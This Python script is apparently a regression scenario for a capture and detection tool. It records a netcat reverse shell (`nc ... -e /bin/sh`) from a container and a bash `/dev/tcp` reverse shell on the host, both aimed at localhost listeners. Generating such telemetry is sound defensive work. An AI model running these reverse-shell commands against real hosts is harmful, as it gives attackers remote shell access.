#!/usr/bin/env python3
"""reverse-shell: a netcat reverse shell from a container, a /dev/tcp one on the host.

1. In a busybox container, `nc 127.0.0.1 4444 -e /bin/sh` connects out to a
   listener and hands it a shell (the container shares the host network).
2. On the host, someone types `bash -i >& /dev/tcp/127.0.0.1/4445 0>&1` in an
   interactive bash: bash opens the connection and puts it on fd 0-2.
Both listeners send `id` and `exit` to the shell they receive.

Usage (root): .venv/bin/python samples/reverse-shell/scenario.py OUT.parquet
"""

import socket
import threading
import time

from fcap.analyze.regress.scenario import finish, host_shell, main_out, recording, typed
from fcap.capture.runc import RuncContainer


def listener(port: int) -> threading.Thread:
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", port))
    srv.listen(1)
    srv.settimeout(20)

    def serve() -> None:
        with srv:
            conn, _ = srv.accept()
            with conn:
                time.sleep(0.3)
                conn.sendall(b"id\n")
                time.sleep(0.3)
                conn.sendall(b"exit\n")
                conn.settimeout(3)
                try:
                    while conn.recv(4096):
                        pass
                except OSError:
                    pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return t


def main() -> None:
    out = main_out()
    with RuncContainer(pod_name="frontend-8c5d1", namespace="shop", container_name="nginx") as c:
        c.start(["sleep", "600"])
        with recording(out):
            t = listener(4444)
            r = c.exec(["nc", "127.0.0.1", "4444", "-e", "/bin/sh"], timeout=20)
            assert r.returncode == 0, r.stderr
            t.join(10)

            t = listener(4445)
            proc, master = host_shell()
            typed(master, ["bash -i >& /dev/tcp/127.0.0.1/4445 0>&1"], pause=2.0)
            t.join(10)
            typed(master, ["exit"])
            finish(proc, master)


if __name__ == "__main__":
    main()
